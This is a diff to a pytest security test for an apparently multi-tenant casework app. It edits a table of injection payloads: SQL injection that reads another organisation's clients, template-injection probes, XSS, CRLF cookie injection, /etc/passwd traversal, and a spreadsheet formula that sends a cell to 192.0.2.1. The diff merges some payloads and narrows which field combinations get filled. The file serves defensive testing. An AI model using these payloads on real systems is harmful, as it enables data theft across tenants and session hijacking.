@@ -20,16 +20,14 @@ Owner: TypeAlias = "asyncpg.Connection[asyncpg.Record]"
 PAYLOADS = {
     "context": f"x'; select set_config('casework.context', '{NORTH.id}', true); select pg_sleep(10); --",
     "union": f"x' or org_id <> '{NORTH.id}' union select id::text, family_name from clients --",
-    "wildcards": "%_\\ %00",
+    "wildcards": "%_\\ %00 %(name)s {0.__class__} %s %n",
     "nul": "a\x00b",
-    "format": "%(name)s {0.__class__} %s %n",
     "template": "zz{{7*7}}zz zz${7*7}zz zz<%= 7*7 %>zz {{ config }}{% for x in ().__class__ %}{{ x }}{% endfor %}",
-    "script": "<script>alert(1)</script>\"'><img src=x onerror=alert(1)>",
+    "script": "<script>alert(1)</script>\"'><img src=x onerror=alert(1)>../../../etc/passwd",
     "formula": '=HYPERLINK("http://192.0.2.1/?x="&A1,"x")',
     "line break": "x\r\nSet-Cookie: casework=stolen\r\n\r\nx",
     "surrogate": "\ud800 \u202etxt.exe\u2066",
     "number": "9" * 400,
-    "path": '../../../../etc/passwd {"$ne": null}',
 }
 # A field that is refused must not shield the others, so these go into one text after the other.
 THOROUGH = {"context", "script"}
@@ -41,8 +39,9 @@ def filled(route: Route, key: Key, payload: str, *, one_by_one: bool) -> Iterato
     body, texts = route.sample(key) or {}, route.texts()
     if texts:
         yield {**body, **dict.fromkeys(texts, payload)}
-        yield from ({**body, name: payload} for name in texts if one_by_one)
-    yield dict.fromkeys(body, payload)
+    if one_by_one:
+        yield from ({**body, name: payload} for name in texts)
+        yield dict.fromkeys(body, payload)
 
 
 @pytest.mark.parametrize("payload", PAYLOADS, ids=str)
